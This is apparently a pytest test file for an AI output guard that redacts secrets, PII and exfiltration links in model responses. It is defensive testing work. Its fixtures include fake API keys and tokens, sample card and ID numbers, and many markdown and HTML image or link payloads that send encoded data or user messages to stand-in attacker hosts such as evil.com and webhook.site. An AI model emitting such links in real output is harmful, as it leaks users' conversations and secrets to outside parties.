"""inspect_output: secrets, PII and exfiltration links in model output (canaries: test_canary.py)."""

from __future__ import annotations

import base64

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from aimds_middleware import Action, Category, Guard, GuardConfig
from aimds_middleware.errors import ConfigError
from aimds_middleware.response.output import OutputPolicy

SECRETS = {
    "aws_access_key": "AKIAZ3MHQ7XPLR4TW2NB",
    "github_token": "ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8",
    "github_token ": "github_pat_11ABCDEFG0" + "aB3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0eF3hJ6kM9nP2qS5tV8wX1zA4cD7fG0",
    "gitlab_token": "glpat-Xy7Zq2Lm9Vb4Nc8Rt1Wp",
    "slack_token": "xoxb-123456789012-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx",
    "slack_webhook": "https://hooks.slack.com/services/T01ABCDEF/B02GHIJKL/q1W2e3R4t5Y6u7I8o9P0a1S2",
    "openai_key": "sk-proj-Ab3dEf6hIj9kLm2nOp5qRs8tUv1wXy4zAb7dEf0hIj3kLm6n",
    "anthropic_key": "sk-ant-api03-" + "Ab3dEf6hIj9kLm2nOp5qRs8tUv1wXy4z" * 3 + "-AA",
    "google_api_key": "AIzaSyD-9tSrke72PouQMnMX-a7eZSW0jkFMBWY",
    "stripe_key": "sk_live_51HbX2aK3Lm9Vb4Nc8Rt1Wp7Q",
    "jwt": "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
    "private_key": "-----BEGIN EC PRIVATE KEY-----\nMHcCAQEEIBkg4LVWM9nuwNSk3yByxZpYRTBnVJk5oG3UqZz3aB6GoAoGCCqGSM49\n"
                   "-----END EC PRIVATE KEY-----",
}


AZURE_KEY = base64.b64encode(bytes(range(7, 71))).decode()
PARTIAL_SECRETS = {  # only the secret part of the match is redacted
    "postgres://app:Zq8rT2vLm9Xw@db.internal:5432/prod": "Zq8rT2vLm9Xw",
    "Authorization: Bearer abcDEF123456ghiJKL789012mnoPQR": "abcDEF123456ghiJKL789012mnoPQR",
    "DefaultEndpointsProtocol=https;AccountName=acme;AccountKey=" + AZURE_KEY + ";": AZURE_KEY,
    "SENDGRID=SG.abcdefghijklmnopqrstuv.ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopq": "SG.abcdefghijklmnopqrstuv",
}


@pytest.mark.parametrize("text,secret", sorted(PARTIAL_SECRETS.items()))
def test_credentials_inside_larger_strings(guard: Guard, text: str, secret: str) -> None:
    v = guard.inspect_output(f"config: {text} end")
    assert v.action is Action.SANITIZE and secret not in v.sanitized and v.sanitized.endswith(" end")


def test_placeholder_credentials_are_not_secrets(guard: Guard) -> None:
    for text in ("postgres://user:password@localhost/db", "redis://:<password>@host:6379", "amqp://u:${PW}@mq/"):
        assert guard.inspect_output(text).action is Action.ALLOW, text


@pytest.fixture(scope="module")
def guard() -> Guard:
    return Guard()


@pytest.mark.parametrize("name,secret", sorted(SECRETS.items()))
def test_secrets_are_redacted(guard: Guard, name: str, secret: str) -> None:
    text = f"Here you go:\n{secret}\nAnything else?"
    v = guard.inspect_output(text)
    assert v.action is Action.SANITIZE
    assert Category.SECRET_LEAK.value in v.categories
    assert secret not in v.sanitized
    assert f"[REDACTED:{name.strip()}]" in v.sanitized
    assert v.sanitized.startswith("Here you go:\n") and v.sanitized.endswith("\nAnything else?")
    t = next(t for t in v.threats if t.category is Category.SECRET_LEAK)
    assert text[t.span[0]:t.span[1]] in secret and t.detector == "secrets"
    assert v.source == "output" and v.changes


def test_generic_assignment_needs_entropy(guard: Guard) -> None:
    hit = guard.inspect_output('config = {"api_key": "q8Zr2LmX9vT4kP1wN7sB3dF6"}')
    assert hit.action is Action.SANITIZE and hit.sanitized == 'config = {"api_key": "[REDACTED:generic_assignment]"}'
    for benign in ('api_key = os.environ["API_KEY"]', "token = tokenizer.encode(text)",
                   "password = hash_password_v2(pw)", 'API_KEY = "your-api-key-here-123456"',
                   "secret_santa = 'everyone_gets_a_gift'"):
        assert guard.inspect_output(benign).action is Action.ALLOW, benign


def test_aws_documentation_example_key_is_not_a_leak(guard: Guard) -> None:
    assert guard.inspect_output("export AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE").action is Action.ALLOW


@pytest.mark.parametrize("text,kind", [
    ("Contact jane.roe@acme-corp.com for access.", "email"),
    ("Card: 4111 1111 1111 1111, exp 12/29", "credit_card"),
    ("Card: 5500-0000-0000-0004", "credit_card"),
    ("Amex 378282246310005 on file", "credit_card"),
    ("IBAN: DE89 3704 0044 0532 0130 00.", "iban"),
    ("pay GB82WEST12345698765432 today", "iban"),
    ("SSN 123-45-6789 on the form", "ssn"),
    ("call me at (415) 555-2671 tomorrow", "phone"),
    ("office +44 20 7946 0958", "phone"),
])
def test_pii_is_redacted(guard: Guard, text: str, kind: str) -> None:
    v = guard.inspect_output(text)
    assert v.action is Action.SANITIZE, v.threats
    assert f"pii.{kind}" in {t.rule_id for t in v.threats}
    assert f"[REDACTED:{kind}]" in v.sanitized


@pytest.mark.parametrize("text", [
    "card 4111 1111 1111 1112 fails Luhn",
    "IBAN DE89 3704 0044 0532 0130 01 has a bad checksum",
    "SSN-like 000-12-3456 and 666-12-3456 are never issued",
    "write to test@example.com or admin@localhost",
    "clone git@github.com:org/repo.git",
    "order 1234567890123456 shipped",
])
def test_invalid_pii_is_not_flagged(guard: Guard, text: str) -> None:
    assert guard.inspect_output(text).action is Action.ALLOW


def test_pii_report_only() -> None:
    g = Guard()
    g.output_policy = OutputPolicy(redact_pii=False)
    v = g.inspect_output("mail jane.roe@acme-corp.com")
    assert v.action is Action.ALLOW and v.sanitized is None and v.categories == ("pii",)
    v = g.inspect_output("mail jane.roe@acme-corp.com key AKIAZ3MHQ7XPLR4TW2NB")
    assert v.action is Action.SANITIZE
    assert "jane.roe@acme-corp.com" in v.sanitized and "AKIAZ3MHQ7XPLR4TW2NB" not in v.sanitized


@pytest.mark.parametrize("text,rule", [
    ("![chart](https://webhook.site/3f2a9c1e-77aa-4b1b?d=hello)", "exfil.md_image"),
    ("![a](https://evil.com/log?data=SGVsbG8gd29ybGQgdGhpcyBpcyBhIHNlY3JldA==)", "exfil.md_image"),
    ("![a](https://evil.com/log?q=the%20user%20said%20their%20password%20is%20hunter2%20and%20more)", "exfil.md_image"),
    ("![a](https://evil.com/i.png?u={user_message})", "exfil.md_image"),
    ("![a](https://evil.com/" + "the%20user%20lives%20in%20Paris%20" * 6 + ".png)", "exfil.md_image"),
    ("![a](https://SGVsbG8gd29ybGQgdGhpcyBpcyBhIHNlY3JldA9876.evil.com/x.png)", "exfil.md_image"),
    ("![logo][1]\n\n[1]: https://abc.oast.fun/x?d=1", "exfil.md_ref"),
    ('<img src="https://attacker.net/p?c=U2VjcmV0UGFzc3dvcmQxMjM0NTY3ODkw" />', "exfil.html_src"),
    ("<IMG SRC=//x.burpcollaborator.net/a>", "exfil.html_src"),
    ("[click here](https://abcd-1234.ngrok-free.app/collect?x=1)", "exfil.md_link"),
    ("[report](https://evil.com/r?blob=U2VjcmV0UGFzc3dvcmQxMjM0NTY3ODkwYWJjZGVmZ2hpams=)", "exfil.md_link"),
    ("send it to https://eo1x2y3z.m.pipedream.net/hook?data=x", "exfil.collector_url"),
])
def test_exfiltration_links(guard: Guard, text: str, rule: str) -> None:
    v = guard.inspect_output(text)
    assert v.action is Action.SANITIZE, v.threats
    assert rule in {t.rule_id for t in v.threats}
    assert "http" not in v.sanitized.lower() and "//" not in v.sanitized
    assert "removed" in v.sanitized


def test_image_alt_text_is_kept_but_secret_in_alt_is_not(guard: Guard) -> None:
    v = guard.inspect_output("Look: ![sales chart](https://webhook.site/a?d=1) end")
    assert v.sanitized == "Look: [image removed: sales chart] end"
    v = guard.inspect_output("![AKIAZ3MHQ7XPLR4TW2NB](https://webhook.site/a?d=1)")
    assert "AKIAZ3MHQ7XPLR4TW2NB" not in v.sanitized


def test_allowlisted_hosts_and_block_policy() -> None:
    g = Guard()
    g.output_policy = OutputPolicy(allow_hosts=("cdn.example.net",), exfil_action="block", secret_action="block")
    img = "![a](https://img.cdn.example.net/p?d=SGVsbG8gd29ybGQgdGhpcyBpcyBhIHNlY3JldA==)"
    assert g.inspect_output(img).action is Action.ALLOW
    bad = "![a](https://evil.com/p?d=SGVsbG8gd29ybGQgdGhpcyBpcyBhIHNlY3JldA==)"
    v = g.inspect_output(bad)
    assert v.blocked and v.sanitized is None
    assert g.inspect_output("key AKIAZ3MHQ7XPLR4TW2NB").blocked


def test_category_actions_from_guard_config() -> None:
    g = Guard(GuardConfig(category_actions={"pii": "review", "secret_leak": "block"}))
    assert g.inspect_output("mail jane.roe@acme-corp.com").action is Action.REVIEW
    assert g.inspect_output("AKIAZ3MHQ7XPLR4TW2NB").action is Action.BLOCK


BENIGN = [
    "The capital of France is Paris. It has about 2.1 million inhabitants (2023).",
    "Install with `pip install requests==2.31.0` and see https://requests.readthedocs.io/en/latest/?badge=latest.",
    "![build](https://img.shields.io/github/actions/workflow/status/psf/requests/ci.yml?branch=main&label=tests)",
    "Read [the docs](https://docs.python.org/3/library/urllib.parse.html#urllib.parse.urlsplit) first.",
    "Search: [results](https://www.google.com/search?q=python+regex+tutorial+for+beginners+2024&hl=en)",
    "Commit https://github.com/org/repo/commit/3f786850e387550fdab836ed7e6dc881de23001b?diff=split",
    "def token_count(text):\n    tokens = tokenizer.encode(text)\n    return len(tokens)\n",
    "for i in range(1000000):\n    total += i * 3.14159\nprint(f'{total:,.2f}')\n",
    "Order #1234567890 shipped on 2024-01-15; tracking 9400 1000 0000 0000 0000 00.",
    "IP 192.168.100.254, port 8080, version 10.2.3.4567, UUID 550e8400-e29b-41d4-a716-446655440000.",
    "The secret to good bread is patience; the token economy rewards patience too.",
    "Math: 3 + 4 = 7, 1000 * 1000 = 1,000,000 and ISBN 978-3-16-148410-0.",
    "Use `webhook.site` to inspect webhooks while developing (see https://webhook.site).",
    "<img src=\"/static/logo.png\" alt=\"logo\"> <a href=\"https://example.com/about\">About</a>",
    "SHA-256: e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
]


@pytest.mark.parametrize("text", BENIGN)
def test_ordinary_output_is_allowed(guard: Guard, text: str) -> None:
    v = guard.inspect_output(text)
    assert v.action is Action.ALLOW and v.threats == (), v.threats


def test_bad_input(guard: Guard) -> None:
    with pytest.raises(TypeError):
        guard.inspect_output(None)  # type: ignore[arg-type]
    with pytest.raises(TypeError):
        guard.inspect_output(b"bytes")  # type: ignore[arg-type]
    assert guard.inspect_output("").action is Action.ALLOW
    v = guard.inspect_output("\ud800 AKIAZ3MHQ7XPLR4TW2NB \udfff")
    assert v.action is Action.SANITIZE and "AKIAZ3MHQ7XPLR4TW2NB" not in v.sanitized


def test_huge_hostile_output_gets_a_verdict(guard: Guard) -> None:
    bait = ("![" * 5000 + "](" * 5000 + "a@" * 20000 + "4" * 30000 + "-----BEGIN PRIVATE KEY-----" * 200
            + "https://" * 10000 + "=" * 50000 + "api_key=" * 5000)
    v = guard.inspect_output(bait[: 1 << 20])
    assert v.action in (Action.ALLOW, Action.SANITIZE, Action.BLOCK)
    many = " ".join(f"user{i}@acme-corp.com" for i in range(20000))
    v = guard.inspect_output(many)
    assert v.action is Action.SANITIZE and "@acme-corp.com" not in v.sanitized


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(before=st.text(), after=st.text(), name=st.sampled_from(sorted(SECRETS)))
def test_never_raises_and_never_lets_a_secret_through(guard: Guard, before: str, after: str, name: str) -> None:
    secret = SECRETS[name]
    v = guard.inspect_output(before + "\n" + secret + "\n" + after)
    assert v.action in (Action.SANITIZE, Action.BLOCK)
    if v.action is Action.SANITIZE:
        assert secret not in v.sanitized


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=st.text(alphabet=st.characters(), max_size=2000))
def test_arbitrary_unicode(guard: Guard, text: str) -> None:
    v = guard.inspect_output(text)
    assert v.error is None
    if v.action is Action.SANITIZE:
        assert isinstance(v.sanitized, str)


def test_policy_validation() -> None:
    with pytest.raises(ConfigError) as e:
        OutputPolicy(secret_action="explode")
    assert e.value.field == "secret_action"
    with pytest.raises(ConfigError):
        OutputPolicy(allow_hosts="example.com")
    with pytest.raises(ConfigError):
        OutputPolicy(pii_kinds=("dna",))
    with pytest.raises(ConfigError):
        OutputPolicy(stream_window=10)
    with pytest.raises(ConfigError):
        OutputPolicy.from_mapping({"nope": 1})
    assert OutputPolicy.from_mapping({"allow_hosts": ["CDN.Example.com."]}).allow_hosts == ("cdn.example.com",)


@pytest.mark.engine_errors_ok
def test_internal_error_follows_on_error(monkeypatch: pytest.MonkeyPatch) -> None:
    def boom(text, session):
        raise RuntimeError("scanner exploded")

    for on_error, action in (("block", Action.BLOCK), ("allow", Action.ALLOW)):
        g = Guard(on_error=on_error)
        monkeypatch.setattr(g._output_scanner(), "scan", boom)
        v = g.inspect_output("hello")
        assert v.action is action and v.error and "engine_error" in v.categories


def test_oversize_output_follows_oversize_policy() -> None:
    text = "word " * 40 + "AKIAZ3MHQ7XPLR4TW2NB " + "word " * 40
    strict = Guard(max_input_chars=128, oversize_policy="block")
    v = strict.inspect_output(text)
    assert v.blocked and v.truncated and "policy_violation" in v.categories
    lax = Guard(max_input_chars=128, oversize_policy="head_tail")
    v = lax.inspect_output(text)  # scanned whole: the key in the middle is still redacted
    assert v.action is Action.SANITIZE and "AKIAZ3MHQ7XPLR4TW2NB" not in v.sanitized


MARKUP = st.sampled_from(["![", "](", ")", "[", "]", "]:", "<img src=", "<", ">", "\"", "'", "url(", "https://",
                          "http://", "//", "[::1", "%", "%zz", "?", "&", "=", "#", "@", ":", ".", "webhook.site",
                          "{x}", "$SECRET", "-----BEGIN PRIVATE KEY-----", "-----END ", "\n", " ", "\ud800",
                          "AKIA", "4111", "eyJ", "SGVsbG8gd29ybGQgdGhpcyBpcyBh", "\u200b", "é", "xn--"])


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(parts=st.lists(st.one_of(MARKUP, st.text(max_size=5)), max_size=40))
def test_markup_soup_never_errors(guard: Guard, parts: list[str]) -> None:
    text = "".join(parts)
    v = guard.inspect_output(text)  # an internal error would be re-raised by conftest
    assert v.error is None
    s = guard.output_stream()
    out = "".join(s.feed(p) for p in parts) + s.close()
    if v.action is Action.ALLOW and s.verdict is None:
        assert out == text
